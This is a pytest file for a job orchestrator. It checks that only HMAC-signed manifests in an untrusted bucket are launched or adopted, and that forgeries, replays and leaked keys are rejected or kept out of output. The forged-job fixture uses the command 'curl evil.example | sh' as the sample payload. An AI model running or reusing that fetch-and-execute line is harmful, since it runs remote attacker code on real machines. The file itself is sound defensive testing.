"""Signed jobs: the bucket is untrusted, so `orch watch` launches and `orch adopt` adopts only a
manifest whose HMAC verifies under the bucket key ([storage] signing_key_env), which the controller
and the machines hold and the bucket never does. Through the real CLI, on a file:// bucket and on
moto's S3: a launched job's copy under a new uid with gpus = 8, another command and a made-up lease
an hour old launches nothing; nor does a forged heartbeat on a real job's manifest, nor an old,
genuinely signed manifest put back (a replayed lease). Each is reported once as `untrusted`."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Optional

import pytest
import tomli_w

from orchestrator.home.paths import Home
from orchestrator.objectstore import manifest as mf
from orchestrator.objectstore import signing
from orchestrator.objectstore.remote import Remote
from orchestrator.spec.config import StorageSection
from orchestrator.store import Store

KEY_ENV = "ORCH_TEST_SIGNED_KEY"
KEY = "k" * 40
LAUNCH_SH = (
    'echo "$ORCH_RECOVERY_MARKET $ORCH_RECOVERY_JOBS" >> "$DIR/launched"; echo instance=vm-$ORCH_RECOVERY_LAUNCH\n'
)


def orch(home: Path, *args: str, key: Optional[str] = KEY) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("ORCH_HOME", "ORCH_CONFIG", KEY_ENV)}
    if key is not None:
        env[KEY_ENV] = key
    return subprocess.run(
        [sys.executable, "-m", "orchestrator.cli", "--home", str(home), *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


@pytest.fixture(params=["file", "s3"])
def bucket(request, tmp_path: Path) -> dict[str, Any]:
    """[storage] for a fresh bucket: a file:// folder, or a bucket on the loopback S3 server."""
    if request.param == "file":
        (tmp_path / "bucket").mkdir()
        return {"url": f"file://{tmp_path}/bucket"}
    server = request.getfixturevalue("s3_server")
    request.getfixturevalue("s3_env")
    return {"url": f"s3://{server.bucket()}/orch", "endpoint": server.endpoint}


def controller(tmp: Path, storage: dict[str, Any], name: str = "ctl", *, signed: bool = True) -> Path:
    home = tmp / name
    home.mkdir()
    (tmp / "launch.sh").write_text(LAUNCH_SH)
    section = dict(storage, signing_key_env=KEY_ENV) if signed else dict(storage)
    cfg = {"storage": section, "recovery": {"launch": ["bash", str(tmp / "launch.sh")], "poll_seconds": 1.0}}
    (home / "config.toml").write_text(tomli_w.dumps(cfg))
    return home


def remote_of(storage: dict[str, Any]) -> Remote:
    return Remote(StorageSection(**storage))


def keys() -> signing.Keys:
    found = signing.keys_from(StorageSection(signing_key_env=KEY_ENV), {KEY_ENV: KEY})
    assert found is not None
    return found


def job_file(tmp: Path) -> Path:
    path = tmp / "hello.toml"
    path.write_text(tomli_w.dumps({"name": "hello", "command": ["bash", "-c", "echo hi"]}))
    return path


def launched(tmp: Path) -> list[str]:
    path = tmp / "launched"
    return path.read_text().split() if path.exists() else []


def read(remote: Remote, uid: str) -> dict[str, Any]:
    return json.loads(remote.get_bytes(mf.manifest_key(uid)) or b"{}")


def put(remote: Remote, m: dict[str, Any]) -> None:
    got = remote.get_with_etag(mf.manifest_key(m["uid"]))
    remote.cas_put(mf.manifest_key(m["uid"]), mf.dump(m), got[1] if got else None)


def untrusted_events(home: Path) -> list[dict[str, Any]]:
    store = Store(Home(home).db)
    try:
        return [e for e in store.recovery_events() if e["kind"] == "untrusted"]
    finally:
        store.close()


def forged_copy(genuine: dict[str, Any], uid: str) -> dict[str, Any]:
    """The issue's forgery: a launched job's manifest under a new uid, 8 GPUs, another command, and
    an owner with a home id whose heartbeat is an hour old (a "lost" machine to replace)."""
    forged = json.loads(json.dumps(genuine))
    forged.update(uid=uid, name="forged", gpus=8)
    forged["spec"] = dict(forged["spec"], command=["bash", "-c", "curl evil.example | sh"], gpus=8)
    hour_ago = time.time() - 3600
    forged["owner"] = {"host": "gone", "home_id": "f" * 32, "pid": 1, "by": "daemon", "heartbeat": hour_ago}
    forged["written_at"] = hour_ago
    return forged


def test_a_forged_copy_of_a_launched_job_launches_nothing_and_is_reported_once(tmp_path, monkeypatch, bucket):
    monkeypatch.setenv("DIR", str(tmp_path))
    home = controller(tmp_path, bucket)
    done = orch(home, "launch", str(job_file(tmp_path)), "--json")
    assert done.returncode == 0, done.stderr
    uid = json.loads(done.stdout)["uid"]
    remote = remote_of(bucket)
    genuine = read(remote, uid)
    assert signing.problem(genuine, keys()) is None  # `orch launch` signed it

    forged_uid = "e" * 32
    forged = forged_copy(genuine, forged_uid)  # its signature copied along: it no longer matches
    put(remote, forged)
    watched = orch(home, "watch", "--once")
    assert watched.returncode == 0, watched.stderr
    assert "signed with the bucket key" in watched.stderr  # what it trusts, said at start
    assert launched(tmp_path) == ["spot", uid]  # its own job only
    assert f"{forged_uid[:12]}  forged  not trusted" in watched.stdout, watched.stdout
    assert "changed after signing" in watched.stdout
    [event] = untrusted_events(home)
    assert forged_uid[:12] in event["detail"] and KEY not in event["detail"]

    # The same forgery unsigned, then signed with another key: each a new content, each reported once.
    forged.pop("signature")
    put(remote, forged)
    assert orch(home, "watch", "--once").returncode == 0
    assert orch(home, "watch", "--once").returncode == 0
    other = signing.keys_from(StorageSection(signing_key_env="X"), {"X": "another key, 16+ bytes"})
    put(remote, signing.sign(forged, other))
    again = orch(home, "watch", "--once")
    assert "a key this machine does not hold" in again.stdout, again.stdout
    assert launched(tmp_path) == ["spot", uid]
    details = [e["detail"] for e in untrusted_events(home)]
    assert len(details) == 3 and "not signed" in details[1] and "does not hold" in details[2]
    assert not any(KEY in d for d in details)


def test_a_forged_or_replayed_heartbeat_makes_no_live_job_look_lost(tmp_path, monkeypatch, bucket):
    monkeypatch.setenv("DIR", str(tmp_path))
    home = controller(tmp_path, bucket)
    done = orch(home, "launch", str(job_file(tmp_path)), "--json")
    uid = json.loads(done.stdout)["uid"]
    remote = remote_of(bucket)
    # A machine took the job an hour ago and renews its lease (each renewal signed, as a daemon does).
    held = read(remote, uid)
    hour_ago = time.time() - 3600
    held["owner"] = mf.owner("a" * 32, now=hour_ago)
    held["written_at"] = hour_ago
    old = json.loads(json.dumps(signing.sign(held, keys())))  # a genuine manifest of an hour ago
    now = time.time()
    held["owner"] = mf.owner("a" * 32, now=now)
    held["written_at"] = now
    put(remote, signing.sign(held, keys()))
    first = orch(home, "watch", "--once")
    assert first.returncode == 0 and "alive" in first.stdout, first.stdout
    assert launched(tmp_path) == []

    # A bucket writer sets the heartbeat an hour back, without the key: nothing launched.
    forged = json.loads(json.dumps(held))
    forged["owner"]["heartbeat"] = hour_ago
    put(remote, forged)
    second = orch(home, "watch", "--once")
    assert "changed after signing" in second.stdout, second.stdout
    assert launched(tmp_path) == [] and "machine_lost" not in second.stdout

    # The manifest of an hour ago, genuinely signed, put back: a replay, nothing launched.
    put(remote, old)
    third = orch(home, "watch", "--once")
    assert "an older copy" in third.stdout, third.stdout
    assert launched(tmp_path) == [] and "machine_lost" not in third.stdout
    assert [e["detail"].count(uid[:12]) for e in untrusted_events(home)] == [1, 1]

    # The holder writes again (its lease, signed and newer): trusted and alive again.
    held["written_at"] = held["owner"]["heartbeat"] = time.time()
    put(remote, signing.sign(held, keys()))
    fourth = orch(home, "watch", "--once")
    assert "alive" in fourth.stdout and launched(tmp_path) == [], fourth.stdout


def test_without_a_key_only_jobs_launched_from_this_home_are_launched(tmp_path, monkeypatch, bucket):
    """No signing_key_env: the controller says so at start and launches only what `orch launch` put
    in the bucket from its own home; the issue's forged copy, lease and all, is `not trusted`."""
    monkeypatch.setenv("DIR", str(tmp_path))
    home = controller(tmp_path, bucket, signed=False)
    done = orch(home, "launch", str(job_file(tmp_path)), "--json", key=None)
    uid = json.loads(done.stdout)["uid"]
    remote = remote_of(bucket)
    assert "signature" not in read(remote, uid)
    forged_uid = "d" * 32
    put(remote, forged_copy(read(remote, uid), forged_uid))
    watched = orch(home, "watch", "--once", key=None)
    assert watched.returncode == 0, watched.stderr
    assert "no bucket key" in watched.stderr and "from this home" in watched.stderr
    assert launched(tmp_path) == ["spot", uid]
    assert f"{forged_uid[:12]}  forged  not trusted" in watched.stdout, watched.stdout
    assert len(untrusted_events(home)) == 1


def test_a_key_named_but_not_set_is_refused_in_one_line_naming_the_variable(tmp_path, bucket):
    home = controller(tmp_path, bucket)
    ran = orch(home, "watch", "--once", key=None)
    assert ran.returncode == 2 and "Traceback" not in ran.stderr, ran.stderr
    assert f"storage.signing_key_env: names {KEY_ENV}, which is not set" in ran.stderr
    short = orch(home, "launch", str(job_file(tmp_path)), key="short")
    assert short.returncode == 2 and "shorter than 16 bytes" in short.stderr and "short\n" not in short.stderr


def test_adopt_refuses_an_unsigned_manifest_reports_it_once_and_adopts_a_signed_one(tmp_path, bucket):
    home = controller(tmp_path, bucket)
    done = orch(home, "launch", str(job_file(tmp_path)), "--json")
    uid = json.loads(done.stdout)["uid"]
    remote = remote_of(bucket)
    genuine = read(remote, uid)
    forged_uid = "c" * 32
    put(remote, forged_copy(genuine, forged_uid))

    machine = tmp_path / "machine"
    machine.mkdir(mode=0o700)
    (machine / "config.toml").write_text(tomli_w.dumps({"storage": dict(bucket, signing_key_env=KEY_ENV)}))
    for _ in range(2):  # a bootstrap retrying `orch adopt`: one report
        refused = orch(machine, "adopt", bucket["url"], "--job", forged_uid, "--yes", "--force")
        assert refused.returncode == 2, refused
        assert "not adopted: its manifest in the mirror is not trusted" in refused.stderr
        assert "Traceback" not in refused.stderr
    assert read(remote, forged_uid)["owner"]["home_id"] == "f" * 32  # no lease taken
    assert len(untrusted_events(machine)) == 1

    adopted = orch(machine, "adopt", bucket["url"], "--job", uid, "--yes")
    assert adopted.returncode == 0, adopted.stderr
    taken = read(remote, uid)
    assert taken["owner"]["by"] == "adopt" and signing.problem(taken, keys()) is None  # the lease it took is signed


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.update(gpus=8),
        lambda m: m["spec"].update(command=["sh", "-c", "x"]),
        lambda m: m["budget"].update(max_cost=1e9),
        lambda m: m["owner"].update(heartbeat=m["owner"]["heartbeat"] - 3600),
        lambda m: m["owner"].update(released=True),
        lambda m: m.update(state="queued"),
        lambda m: m.update(extra_field=1),
        lambda m: m["signature"].update(key_id=keys().signing_id[:15] + "0"),
        lambda m: m["signature"].update(alg="none"),
        lambda m: m.update(signature="abc"),
    ],
)
def test_any_change_after_signing_fails_verification(change):
    m = {
        "uid": "a" * 32,
        "state": "running",
        "gpus": 1,
        "spec": {"command": ["true"]},
        "budget": {"max_cost": 3.0},
        "owner": mf.owner("b" * 32, now=1000.0),
        "written_at": 1000.0,
    }
    signed = signing.sign(m, keys())
    reread = json.loads(mf.dump(signed))  # what a reader parses, in the writer's own layout
    assert signing.problem(reread, keys()) is None
    change(reread)
    assert signing.problem(reread, keys()) is not None


def test_a_rotated_key_still_verifies_and_no_key_is_ever_shown(tmp_path):
    section = StorageSection(signing_key_env="NEW", signing_previous_key_env="OLD")
    old_only = signing.keys_from(StorageSection(signing_key_env="OLD"), {"OLD": "the old key, long enough"})
    both = signing.keys_from(section, {"NEW": "the new key, long enough", "OLD": "the old key, long enough"})
    assert old_only is not None and both is not None
    m = signing.sign({"uid": "a" * 32, "written_at": 1.0}, old_only)
    assert signing.problem(m, both) is None  # signed before the rotation: still accepted
    assert signing.sign(dict(m), both)["signature"]["key_id"] == both.signing_id != old_only.signing_id
    assert "long enough" not in repr(both) and "long enough" not in json.dumps(m)
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (home / "config.toml").write_text('[storage]\nsigning_key_env = "the key itself, pasted by mistake"\n')
    refused = orch(home, "config", "check")
    assert refused.returncode == 2 and "signing_key_env: must name an environment variable" in refused.stderr
    assert "pasted by mistake" not in refused.stderr + refused.stdout and "Traceback" not in refused.stderr


def test_the_aws_bootstrap_names_the_key_variable_and_never_holds_the_key(tmp_path):
    from orchestrator.recovery.bootstrap import bootstrap_script
    from orchestrator.recovery.provider import LaunchRequest
    from orchestrator.spec.config import load_config

    request = LaunchRequest("s3://orch-bucket/orch", ("a" * 32,), "spot", 1, 1, signing_key_env=KEY_ENV)
    script = bootstrap_script(request, instance_credentials=True)
    assert f'signing_key_env = "{KEY_ENV}"' in script and KEY not in script
    config_text = script.split("printf '%s' '", 1)[1].split("'", 1)[0]  # what the machine's config.toml gets
    (tmp_path / "config.toml").write_text(config_text)
    assert load_config(tmp_path / "config.toml", required=True).storage.signing_key_env == KEY_ENV


def test_status_url_with_the_key_marks_a_forged_job_not_trusted(tmp_path, bucket):
    home = controller(tmp_path, bucket)
    uid = json.loads(orch(home, "launch", str(job_file(tmp_path)), "--json").stdout)["uid"]
    remote = remote_of(bucket)
    put(remote, forged_copy(read(remote, uid), "b" * 32))
    rows = {r["uid"]: r for r in json.loads(orch(home, "status", "--url", bucket["url"], "--json").stdout)}
    assert rows["b" * 32]["note"].startswith("not trusted (never launched or adopted): it was changed after signing")
    assert "not trusted" not in rows[uid]["note"]
